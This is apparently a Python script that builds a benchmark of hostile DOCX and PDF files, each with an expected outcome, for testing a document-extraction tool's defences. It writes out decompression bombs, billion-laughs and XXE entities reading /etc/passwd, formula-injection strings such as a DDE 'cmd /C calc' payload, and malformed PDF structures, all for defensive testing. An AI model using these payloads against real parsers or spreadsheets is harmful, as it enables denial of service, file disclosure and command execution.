"""The hostile set: crafted files, each labelled with what it attacks and the outcome expected of the batch.

    python benchmarks/hostile/build.py OUTDIR [--fast] [--only NAME...]

writes every case's file under OUTDIR/input/ and OUTDIR/manifest.json ({case: {"file", "what", "expect"}}).
`--fast` leaves out the heavy cases (gigabyte bombs, the 20 GiB sparse file, the 100,000-row table) for
tests/test_hostile.py. Expectations (checked by run.py):

* {"ok": true, "risks": 5, ...}: extracted with no failure finding, these counts, these fields as written;
* {"codes": [...]}: one of these finding codes among the document's errors (a clear finding);
  "extraction_failed:memory limit" means that code with "memory limit" in its message.

Every case also must end without a traceback, under the memory and time limits, with strict JSON and
no live formula in any CSV; run.py checks those for all.
"""
from __future__ import annotations

import argparse
import copy
import json
import os
import re
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

from lxml import etree

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[1]
sys.path.insert(0, str(HERE))

from craft import (  # noqa: E402
    FLAG_ENCRYPTED,
    ZIP_STORED,
    RawEntry,
    deflate_bomb,
    one_page_pdf,
    pdf_stream,
    write_pdf,
    write_zip,
    zlib_bomb,
)

SAMPLE_DOCX = ROOT / "samples" / "agds_2019.docx"
SAMPLE_PDF = ROOT / "samples" / "agds_2019.pdf"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
GIB = 1 << 30
UNREADABLE = ["unreadable_document"]
BOUNDED = ["unreadable_document", "extraction_failed:memory limit", "extraction_timeout", "document_too_large"]
RISK_WORDS = ("Снижение уровня кадровой мобильности в связи с требованием по поступлению на государственную службу только "
              "с низовых должностей и упразднением кадрового резерва корпуса проведение конкурсов органов служащих")
SAMPLE_OK = {"ok": True, "risks": 5, "indicators": 9}
FORMULAS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"открыть")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1)",
            "\t=1+1", "\r=1+1"]


@dataclass
class Case:
    name: str  # file name under input/ (may hold folders)
    what: str
    expect: dict
    make: Callable[[], bytes]
    heavy: bool = False
    sparse_size: int = 0  # grow the file to this size with a hole of zero bytes (truncate)
    tags: list[str] = field(default_factory=list)


def w(tag: str) -> str:
    return f"{{{W}}}{tag}"


# --- DOCX from the sample ---------------------------------------------------------------------------

def sample_entries() -> dict[str, bytes]:
    with zipfile.ZipFile(SAMPLE_DOCX) as z:
        return {i.filename: z.read(i) for i in z.infolist()}


def docx_with(replace: dict[str, bytes] | None = None, raw: dict[str, RawEntry] | None = None,
              extra: list[RawEntry] | None = None, drop: tuple[str, ...] = ()) -> bytes:
    """The sample DOCX with some parts replaced (honest entries) or replaced by crafted raw entries."""
    entries = []
    for name, data in sample_entries().items():
        if name in drop:
            continue
        if raw and name in raw:
            entries.append(raw[name])
        else:
            entries.append(RawEntry.of(name, (replace or {}).get(name, data)))
    return write_zip(entries + (extra or []))


def document_tree() -> etree._Element:
    return etree.fromstring(sample_entries()["word/document.xml"])


def tree_bytes(root) -> bytes:
    return etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True)


def rows_of(root, table: int) -> list:
    return list(list(root.iter(w("tbl")))[table].iterchildren(w("tr")))


def set_text(tc, text: str) -> None:
    """Put `text` in a cell (or paragraph): its first w:t gets it, every other w:t is emptied."""
    ts = list(tc.iter(w("t")))
    ts[0].text = text
    ts[0].set("{http://www.w3.org/XML/1998/namespace}space", "preserve")
    for t in ts[1:]:
        t.text = ""


def edited_document(edit: Callable) -> bytes:
    root = document_tree()
    edit(root)
    return docx_with({"word/document.xml": tree_bytes(root)})


def with_cell(table: int, row: int, col: int, text: str) -> Callable[[], bytes]:
    return lambda: edited_document(lambda root: set_text(rows_of(root, table)[row].findall(w("tc"))[col], text))


def with_tcpr(row: int, col: int, tag: str, value: str, table: int = 0) -> Callable[[], bytes]:
    """A cell property (gridSpan...) set on one cell of the sample's risk table."""
    def edit(root):
        tc = rows_of(root, table)[row].findall(w("tc"))[col]
        tcpr = tc.find(w("tcPr"))
        if tcpr is None:
            tcpr = etree.SubElement(tc, w("tcPr"))
            tc.insert(0, tcpr)
        for old in tcpr.findall(w(tag)):
            tcpr.remove(old)
        etree.SubElement(tcpr, w(tag)).set(w("val"), value)
    return lambda: edited_document(edit)


def with_trpr(row: int, tag: str, value: str, table: int = 0) -> Callable[[], bytes]:
    def edit(root):
        tr = rows_of(root, table)[row]
        trpr = tr.find(w("trPr"))
        if trpr is None:
            trpr = etree.Element(w("trPr"))
            tr.insert(0, trpr)
        etree.SubElement(trpr, w(tag)).set(w("val"), value)
    return lambda: edited_document(edit)


def many_rows(count: int) -> bytes:
    """The indicator table with its last data row repeated `count` times."""
    def edit(root):
        last = rows_of(root, 1)[-1]
        parent = last.getparent()
        for _ in range(count):
            parent.append(copy.deepcopy(last))
    return edited_document(edit)


def formula_document() -> bytes:
    """Formula payloads in risk cells, indicator cells and a note sentence with a figure."""
    def edit(root):
        risk = rows_of(root, 0)[4].findall(w("tc"))
        for tc, payload in zip(risk[:3], FORMULAS[:3], strict=True):
            set_text(tc, payload)
        indicator = rows_of(root, 1)[5].findall(w("tc"))
        set_text(indicator[0], FORMULAS[3])
        set_text(indicator[1], FORMULAS[4])
        set_text(indicator[2], FORMULAS[5])
        note = [p for p in root.find(w("body")).iterchildren(w("p")) if "16119" in "".join(p.itertext())][0]
        set_text(note, "=HYPERLINK(\"http://example.invalid\") В 2019 году назначено 16119 человек.")
    return edited_document(edit)


def big_cell(size: int, sentence: str, runs: bool = True) -> Callable[[], bytes]:
    """A risk cell of `size` characters: `sentence` repeated, in runs of 1 MB (or one text node)."""
    def edit(root):
        tc = rows_of(root, 0)[4].findall(w("tc"))[0]
        text = varied_prose(sentence, size)
        set_text(tc, text[: 1 << 20] if runs else text)
        if runs:
            r = next(tc.iter(w("r")))
            for start in range(1 << 20, size, 1 << 20):
                extra = copy.deepcopy(r)
                set_text(extra, text[start:start + (1 << 20)])
                r.addnext(extra)
                r = extra
    return lambda: edited_document(edit)


def varied_prose(sentence: str, size: int) -> str:
    """About `size` characters of `sentence`'s words shuffled (seeded), so that it compresses like prose, not like a bomb."""
    import random

    rng = random.Random(13)
    words = sentence.split()
    out, length = [], 0
    while length < size:
        chunk = " ".join(rng.sample(words, len(words))) + ". "
        out.append(chunk)
        length += len(chunk)
    return "".join(out)[:size]


def doc_prefix_suffix() -> tuple[bytes, bytes]:
    """document.xml split just after <w:body>, to put a bomb between its halves."""
    xml = sample_entries()["word/document.xml"]
    at = xml.index(b"<w:body>") + len(b"<w:body>")
    return xml[:at], xml[at:]


def bomb_part(name: str, unit: bytes, size: int, lie: bool = False) -> Callable[[], bytes]:
    """The sample with part `name` inflating to about `size` bytes (`unit` repeated inside it)."""
    def make() -> bytes:
        if name == "word/document.xml":
            prefix, suffix = doc_prefix_suffix()
        elif name == "word/styles.xml":
            xml = sample_entries()[name]
            at = xml.index(b"?>") + 2
            prefix, suffix = xml[:at], xml[at:]
        else:
            prefix, suffix = b"", b""
        stream, crc, usize = deflate_bomb(prefix, unit, size // len(unit), suffix)
        entry = RawEntry(name, stream, crc, 10_000 if lie else usize)
        if name in sample_entries():
            return docx_with(raw={name: entry})
        return docx_with(extra=[entry])
    return make


def xml_with_doctype(doctype: str, entity_use: str) -> Callable[[], bytes]:
    """document.xml with a DOCTYPE and an entity used in the first paragraph."""
    def make() -> bytes:
        xml = sample_entries()["word/document.xml"].decode("utf-8")
        xml = xml.replace("?>", f"?>\n{doctype}", 1)
        xml = xml.replace("Отчет о реализации стратегического плана", f"Отчет о реализации стратегического плана {entity_use}", 1)
        return docx_with({"word/document.xml": xml.encode("utf-8")})
    return make


LAUGHS = ("<!DOCTYPE w:document [<!ENTITY a0 'ha'>"
          + "".join(f"<!ENTITY a{i} '{('&a' + str(i - 1) + ';') * 10}'>" for i in range(1, 10)) + "]>")


def damaged_entry(kind: str) -> Callable[[], bytes]:
    def make() -> bytes:
        data = sample_entries()["word/document.xml"]
        entry = RawEntry.of("word/document.xml", data)
        if kind == "zlib":
            payload = bytearray(entry.payload)
            payload[100:140] = b"\xff" * 40
            entry.payload = bytes(payload)
        elif kind == "encrypted":
            entry.flags |= FLAG_ENCRYPTED
        elif kind == "method":
            entry.method = 99
        elif kind == "crc":
            entry.crc ^= 0xFFFF
        return docx_with(raw={"word/document.xml": entry})
    return make


def many_entries(count: int) -> bytes:
    extra = [RawEntry.of(f"customXml/item{n}.xml", b"<a/>", ZIP_STORED) for n in range(count)]
    return docx_with(extra=extra)


def deep_xml(depth: int) -> bytes:
    prefix, suffix = doc_prefix_suffix()
    nest = b"<w:sdt><w:sdtContent>" * depth + b"</w:sdtContent></w:sdt>" * depth
    return docx_with({"word/document.xml": prefix + nest + suffix})


def nested_tables(depth: int) -> bytes:
    prefix, suffix = doc_prefix_suffix()
    cell_open = b"<w:tbl><w:tblGrid><w:gridCol w:w=\"100\"/></w:tblGrid><w:tr><w:tc><w:p><w:r><w:t>x</w:t></w:r></w:p>"
    cell_close = b"<w:p/></w:tc></w:tr></w:tbl>"
    return docx_with({"word/document.xml": prefix + cell_open * depth + cell_close * depth + suffix})


def content_type_of_main(value: str) -> bytes:
    types = sample_entries()["[Content_Types].xml"].decode()
    types = re.sub(r'(PartName="/word/document.xml" ContentType=")[^"]+', rf"\g<1>{value}", types)
    return docx_with({"[Content_Types].xml": types.encode()})


def lzma_package() -> bytes:
    import io

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_LZMA) as z:
        for name, data in sample_entries().items():
            z.writestr(name, data)
    return out.getvalue()


# --- PDF ------------------------------------------------------------------------------------------

def pdf_text_page(text: bytes = b"(Hello) Tj") -> bytes:
    return one_page_pdf(b"BT /F1 12 Tf 72 720 Td " + text + b" ET", "/Font << /F1 5 0 R >>",
                        [b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"])


def pdf_stream_bomb() -> bytes:
    return one_page_pdf(zlib_bomb(b" " * (1 << 20), 2500), filter_="/Filter /FlateDecode")


def pdf_recursive_form(pair: bool) -> bytes:
    """A form XObject that draws itself (or two that draw each other)."""
    form = b"q 0.5 0 0 0.5 10 10 cm /X0 Do Q 0 0 m 100 100 l S"
    other = "6" if pair else "5"
    extra = [pdf_stream(f"/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /X0 {other} 0 R >> >>", form)]
    if pair:
        extra.append(pdf_stream("/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /X0 5 0 R >> >>", form))
    return one_page_pdf(b"/X0 Do", "/XObject << /X0 5 0 R >>", extra)


def pdf_many_operators(count: int) -> bytes:
    unit = b"10 10 m 20 20 l S\n" * 4096
    return one_page_pdf(zlib_bomb(unit, count // 4096), filter_="/Filter /FlateDecode")


def pdf_page_tree_loop() -> bytes:
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
               pdf_stream("", b"0 0 m 10 10 l S")]
    return write_pdf(objects)


def pdf_huge_count() -> bytes:
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [" + b"3 0 R " * 200_000 + b"] /Count 200000 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
               pdf_stream("", b"BT ET")]
    return write_pdf(objects)


def pdf_type3() -> bytes:
    """Text drawn with a Type 3 font whose glyph names mean nothing and no ToUnicode map."""
    procs = "".join(f"/g{n} {6 + n} 0 R " for n in range(1, 4))
    font = (f"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 750 750] /FontMatrix [0.001 0 0 0.001 0 0] "
            f"/CharProcs << {procs}>> /Encoding << /Type /Encoding /Differences [1 /g1 /g2 /g3] >> "
            "/FirstChar 1 /LastChar 3 /Widths [800 800 800] >>").encode()
    glyph = pdf_stream("", b"800 0 0 0 750 750 d1 0 0 750 750 re f")
    line = b"(" + b"\x01\x02\x03\x02\x01 " * 12 + b") Tj "
    content = b"BT /F1 12 Tf 72 760 Td 14 TL " + (line + b"T* ") * 40 + b"ET"
    return one_page_pdf(content, "/Font << /F1 5 0 R >>", [font, b"<< >>", glyph, glyph, glyph])


def pikepdf_edit(edit: Callable) -> Callable[[], bytes]:
    def make() -> bytes:
        import io

        import pikepdf

        with pikepdf.open(SAMPLE_PDF) as pdf:
            edit(pdf)
            out = io.BytesIO()
            pdf.save(out)
            return out.getvalue()
    return make


def set_boxes(box: list[float]) -> Callable:
    def edit(pdf) -> None:
        for page in pdf.pages:
            page.obj["/MediaBox"] = box
            for name in ("/CropBox", "/TrimBox", "/BleedBox", "/ArtBox"):
                if name in page.obj:
                    del page.obj[name]
    return edit


def drop_tounicode(pdf) -> None:
    for page in pdf.pages:
        fonts = page.obj.get("/Resources", {}).get("/Font", {})
        for name in list(fonts.keys()):
            font = fonts[name]
            if "/ToUnicode" in font:
                del font["/ToUnicode"]


def pdf_without_xref() -> bytes:
    """The sample without its cross-reference table, trailer and %%EOF (the end of the file lost)."""
    data = SAMPLE_PDF.read_bytes()
    return data[:data.rfind(b"xref")]


def pdf_wrong_xref() -> bytes:
    """Every offset of the cross-reference table off by 7 bytes."""
    data = SAMPLE_PDF.read_bytes()
    at = data.rfind(b"xref")
    head, tail = data[:at], data[at:]
    return head + re.sub(rb"(\d{10}) (\d{5}) n", lambda m: b"%010d %s n" % (int(m.group(1)) + 7, m.group(2)), tail)


def pdf_table_text(payloads: list[str]) -> bytes:
    return pdf_text_page(b" ".join(b"(" + p.encode("latin-1", "replace") + b") Tj" for p in payloads))


# --- names ------------------------------------------------------------------------------------------

def sample_bytes(kind: str = "docx") -> Callable[[], bytes]:
    return lambda: (SAMPLE_DOCX if kind == "docx" else SAMPLE_PDF).read_bytes()


def varied_docx(n: int) -> bytes:
    """The sample, distinct bytes per n (an extra custom XML part), so every copy is its own document."""
    return docx_with(extra=[RawEntry.of("customXml/variant.xml", f"<v n='{n}'/>".encode())])


def collision_cases() -> list[Case]:
    """x.docx and X.docx (one name case-insensitively) and two inputs already named like their hashed names."""
    import hashlib

    cases = []
    for n, stem in enumerate(("x", "X")):
        data = varied_docx(100 + n)
        digest = hashlib.sha256(data).hexdigest()
        cases.append(Case(f"collide/{stem}.docx", "two names equal but for case", SAMPLE_OK, lambda d=data: d))
        other = varied_docx(200 + n)
        cases.append(Case(f"collide/x_docx_{digest[:8]}.docx", "named like the hashed name of another input",
                          SAMPLE_OK, lambda d=other: d))
    return cases


def name_cases() -> list[Case]:
    long_latin = "r" * 245 + ".docx"
    long_cyrillic = ("Отчет о реализации стратегического плана Министерства " * 3)[:120].rstrip() + ".docx"
    names = [
        (long_latin, "a 250-character Latin file name"),
        (long_cyrillic, "a 125-character Cyrillic file name (250 bytes, the file system's limit)"),
        ("names/a..b.docx", "two dots inside"),
        ("names/report..docx", "a stem ending in a dot"),
        ("names/line\nbreak.docx", "a newline in the name"),
        ("names/quote\"d'.docx", "quotes in the name"),
        ("names/=HYPERLINK(1).docx", "a formula as the file name"),
        ("names/datapackage.docx", "the name of the run's own descriptor"),
        ("names/documents.docx", "the name of a run table"),
        ("names/ spaced .docx", "leading and trailing spaces"),
    ]
    return [Case(name, what, SAMPLE_OK, lambda n=n: varied_docx(300 + n), tags=["names"])
            for n, (name, what) in enumerate(names)]


# --- the set -----------------------------------------------------------------------------------------

def cases() -> list[Case]:
    paragraphs = b"<w:p><w:r><w:t>1</w:t></w:r></w:p>" * 30000
    spaces = b" " * (1 << 20)
    prose = "В 2019 году 16 119 человек, из них 7 209 женщин (44,7%), 93,6% конкурсов, 2 500 тыс. тенге, 12 310 граждан, " + RISK_WORDS
    _ = "В 2019 году назначено 16 119 человек, из них 7 209 женщин (44,7%). "
    out = [
        Case("docx/bomb_document.docx", "document.xml inflates to 3.5 GB", BOUNDED,
             bomb_part("word/document.xml", spaces, int(3.5 * GIB)), heavy=True),
        Case("docx/bomb_document_small.docx", "document.xml inflates to 600 MB", BOUNDED,
             bomb_part("word/document.xml", spaces, 600 << 20)),
        Case("docx/bomb_paragraphs.docx", "document.xml of 1 GB of tiny paragraphs", BOUNDED,
             bomb_part("word/document.xml", paragraphs, GIB), heavy=True),
        Case("docx/bomb_paragraphs_small.docx", "document.xml of 60 MB of tiny paragraphs", BOUNDED,
             bomb_part("word/document.xml", paragraphs, 60 << 20)),
        Case("docx/bomb_media.docx", "a media part inflating to 3.5 GB", {"codes": BOUNDED, "or_ok": True},
             bomb_part("word/media/image1.png", b"\0" * (1 << 20), int(3.5 * GIB)), heavy=True),
        Case("docx/bomb_media_small.docx", "a media part inflating to 700 MB", {"codes": BOUNDED, "or_ok": True},
             bomb_part("word/media/image1.png", b"\0" * (1 << 20), 700 << 20)),
        Case("docx/bomb_styles.docx", "styles.xml inflates to 3.5 GB", BOUNDED,
             bomb_part("word/styles.xml", spaces, int(3.5 * GIB)), heavy=True),
        Case("docx/bomb_styles_small.docx", "styles.xml inflates to 500 MB", BOUNDED,
             bomb_part("word/styles.xml", spaces, 500 << 20)),
        Case("docx/bomb_lying_size.docx", "document.xml declares 10 kB, inflates to 1 GB", UNREADABLE,
             bomb_part("word/document.xml", spaces, GIB, lie=True)),
        Case("docx/gridspan_10m.docx", "a cell spanning 10 million grid columns", SAMPLE_OK,
             with_tcpr(4, 3, "gridSpan", "10000000")),
        Case("docx/gridspan_10m_mid.docx", "a first cell spanning 10 million grid columns",
             {"ok": True, "indicators": 9}, with_tcpr(5, 0, "gridSpan", "10000000")),
        Case("docx/gridbefore_10m.docx", "a row starting after 10 million grid columns",
             {"ok": True, "indicators": 9}, with_trpr(5, "gridBefore", "10000000")),
        Case("docx/gridafter_10m.docx", "a row ending 10 million grid columns early", SAMPLE_OK,
             with_trpr(5, "gridAfter", "10000000")),
        Case("docx/gridspan_negative.docx", "gridSpan -5", SAMPLE_OK, with_tcpr(4, 1, "gridSpan", "-5")),
        Case("docx/gridspan_zero.docx", "gridSpan 0", SAMPLE_OK, with_tcpr(4, 1, "gridSpan", "0")),
        Case("docx/gridspan_text.docx", "gridSpan 'много'", SAMPLE_OK, with_tcpr(4, 1, "gridSpan", "много")),
        Case("docx/gridbefore_negative.docx", "gridBefore -3", SAMPLE_OK, with_trpr(5, "gridBefore", "-3")),
        Case("docx/vmerge_everywhere.docx", "vMerge continue on every cell of a row", {"ok": True, "indicators": 9},
             with_tcpr(5, 0, "vMerge", "continue")),
        Case("docx/table_100k_rows.docx", "an indicator table of 100,000 rows",
             {"codes": BOUNDED, "or_ok": True}, lambda: many_rows(100_000), heavy=True),
        Case("docx/table_5k_rows.docx", "an indicator table of 5,000 rows",
             {"codes": ["extraction_timeout"], "or_ok": True, "indicators": 5009},
             lambda: many_rows(5000)),
        Case("docx/cell_10mb_runs.docx", "a risk cell of 10 MB in 1 MB runs", {"codes": ["text_truncated"], "or_ok": True},
             big_cell(10 << 20, RISK_WORDS)),
        Case("docx/cell_10mb_node.docx", "a risk cell of 10.5 MB in one text node", {"codes": UNREADABLE + ["text_truncated"]},
             big_cell(10_500_000, RISK_WORDS, runs=False)),
        Case("docx/risk_cell_8mb_facts.docx", "an 8 MB risk cell full of figures", {"codes": ["text_truncated"], "or_ok": True},
             big_cell(8 << 20, prose)),
        Case("docx/billion_laughs.docx", "nested entities (billion laughs) in document.xml", UNREADABLE,
             xml_with_doctype(LAUGHS, "&a9;")),
        Case("docx/xxe_file.docx", "an external entity naming /etc/passwd", UNREADABLE,
             xml_with_doctype('<!DOCTYPE w:document [<!ENTITY x SYSTEM "file:///etc/passwd">]>', "&x;")),
        Case("docx/xxe_network.docx", "an external entity naming a URL", UNREADABLE,
             xml_with_doctype('<!DOCTYPE w:document [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]>', "&x;")),
        Case("docx/xxe_parameter.docx", "an external DTD through a parameter entity", UNREADABLE,
             xml_with_doctype('<!DOCTYPE w:document [<!ENTITY % p SYSTEM "http://127.0.0.1:9/p.dtd"> %p;]>', "")),
        Case("docx/zlib_error.docx", "document.xml's deflate data damaged", UNREADABLE, damaged_entry("zlib")),
        Case("docx/encrypted_entry.docx", "document.xml flagged as encrypted", UNREADABLE, damaged_entry("encrypted")),
        Case("docx/unknown_method.docx", "document.xml with compression method 99", UNREADABLE, damaged_entry("method")),
        Case("docx/bad_crc.docx", "document.xml with a wrong CRC", UNREADABLE, damaged_entry("crc")),
        Case("docx/no_document_part.docx", "no word/document.xml", UNREADABLE,
             lambda: docx_with(drop=("word/document.xml",))),
        Case("docx/wrong_content_type.docx", "the main part typed as a spreadsheet", UNREADABLE,
             lambda: content_type_of_main("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")),
        Case("docx/many_entries.docx", "60,000 entries in the package", BOUNDED, lambda: many_entries(60_000)),
        Case("docx/deep_xml.docx", "content controls nested 5,000 deep", {"codes": UNREADABLE, "or_ok": True},
             lambda: deep_xml(5000)),
        Case("docx/nested_tables.docx", "tables nested 200 deep", {"codes": UNREADABLE, "or_ok": True}, lambda: nested_tables(200)),
        Case("docx/lzma.docx", "every part compressed with LZMA", SAMPLE_OK, lzma_package),
        Case("docx/formulas.docx", "formula payloads in cells and a note sentence",
             {"ok": True, "risks": 5, "indicators": 9,
              "fields": {"risks.0.risk": FORMULAS[0], "risks.0.planned_measures": FORMULAS[1],
                         "risks.0.actual_measures": FORMULAS[2], "indicators.0.name": FORMULAS[3]}},
             formula_document, tags=["formula"]),
        Case("docx/number_400_digits.docx", "a plan cell of 400 digits", {"codes": ["unparsed_number"], "or_ok": True,
                                                                         "fields": {"indicators.0.plan": None}},
             with_cell(1, 5, 3, "9" * 400)),
        Case("docx/number_30_digits.docx", "a plan cell of 30 digits (beyond SQLite INTEGER)", {"ok": True},
             with_cell(1, 5, 3, "1" + "0" * 29)),
        Case("docx/fact_400_digits.docx", "a note figure of 400 digits", {"ok": True},
             lambda: edited_document(lambda root: set_text(
                 [p for p in root.find(w("body")).iterchildren(w("p")) if "16119" in "".join(p.itertext())][0],
                 f"В 2019 году назначено {'9' * 400} человек и {'1' + '0' * 25} тенге."))),
        # PDF
        Case("pdf/stream_bomb.pdf", "a content stream inflating to 2.5 GB", BOUNDED + ["no_text_layer", "missing_section"],
             pdf_stream_bomb),
        Case("pdf/recursive_form.pdf", "a form XObject drawing itself", BOUNDED + ["no_text_layer", "missing_section"],
             lambda: pdf_recursive_form(False)),
        Case("pdf/recursive_form_pair.pdf", "two form XObjects drawing each other",
             BOUNDED + ["no_text_layer", "missing_section"], lambda: pdf_recursive_form(True)),
        Case("pdf/many_operators.pdf", "2 million path objects on one page",
             BOUNDED + ["no_text_layer", "missing_section"], lambda: pdf_many_operators(2_000_000)),
        Case("pdf/page_tree_loop.pdf", "a page tree whose Pages node is its own kid",
             UNREADABLE + ["no_text_layer", "missing_section"], pdf_page_tree_loop),
        Case("pdf/huge_page_count.pdf", "200,000 pages (one page object repeated)", BOUNDED + ["no_text_layer"],
             pdf_huge_count),
        Case("pdf/type3_no_tounicode.pdf", "text in a Type 3 font without a Unicode map (OCR finds only boxes)",
             ["no_text_layer", "missing_section"], pdf_type3),
        Case("pdf/identity_no_tounicode.pdf", "the sample with every ToUnicode map removed (read by OCR where installed)",
             ["no_text_layer", "ocr_used", "extraction_timeout"], pikepdf_edit(drop_tounicode)),
        Case("pdf/no_xref.pdf", "the sample without its cross-reference table, trailer and %%EOF",
             {**SAMPLE_OK, "codes": ["document_repaired"]},
             pdf_without_xref),
        Case("pdf/wrong_xref.pdf", "the sample with every xref offset wrong", SAMPLE_OK, pdf_wrong_xref),
        Case("pdf/mediabox_inverted.pdf", "MediaBox [595 842 0 0]", SAMPLE_OK, pikepdf_edit(set_boxes([595, 842, 0, 0]))),
        Case("pdf/mediabox_zero.pdf", "MediaBox [0 0 0 0]", SAMPLE_OK, pikepdf_edit(set_boxes([0, 0, 0, 0]))),
        Case("pdf/mediabox_huge.pdf", "MediaBox of 10^9 points", SAMPLE_OK, pikepdf_edit(set_boxes([0, 0, 1e9, 1e9]))),
        Case("pdf/mediabox_offset.pdf", "MediaBox [-1000 -1000 -405 -158]", SAMPLE_OK,
             pikepdf_edit(set_boxes([-1000, -1000, -405, -158]))),
        Case("pdf/zero_tail_20gib.pdf", "the sample followed by 20 GiB of zero bytes (a sparse file)",
             ["unreadable_document", "document_too_large", "extraction_timeout"], sample_bytes("pdf"), sparse_size=20 * GIB),
        Case("pdf/formula_text.pdf", "a page of formula payloads", ["missing_section"],
             lambda: pdf_table_text(["=1+1", "+cmd|' /C calc'!A0", "@SUM(1)"]), tags=["formula"]),
        Case("pdf/not_pdf_after_header.pdf", "%PDF- then garbage", UNREADABLE, lambda: b"%PDF-1.7\n" + os.urandom(4096)),
    ]
    return out + name_cases() + collision_cases()


def build(outdir: Path, fast: bool = False, only: list[str] | None = None) -> dict:
    """Write the cases' files under outdir/input and return the manifest (also written as manifest.json)."""
    inputs = outdir / "input"
    manifest = {}
    for case in cases():
        if (fast and case.heavy) or (only and case.name not in only):
            continue
        path = inputs / case.name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(case.make())
        if case.sparse_size:
            os.truncate(path, case.sparse_size)
        expect = {"codes": case.expect} if isinstance(case.expect, list) else case.expect
        manifest[case.name] = {"what": case.what, "expect": expect, "tags": case.tags}
    if only and (outdir / "manifest.json").exists():
        manifest = {**json.loads((outdir / "manifest.json").read_text(encoding="utf-8")), **manifest}
    (outdir / "manifest.json").write_text(json.dumps(manifest, ensure_ascii=False, indent=1), encoding="utf-8")
    return manifest


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("outdir", type=Path)
    parser.add_argument("--fast", action="store_true", help="leave out the heavy cases")
    parser.add_argument("--only", nargs="+", help="build only these cases (names under input/)")
    args = parser.parse_args(argv)
    manifest = build(args.outdir, args.fast, args.only)
    print(f"{len(manifest)} cases in {args.outdir / 'input'}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
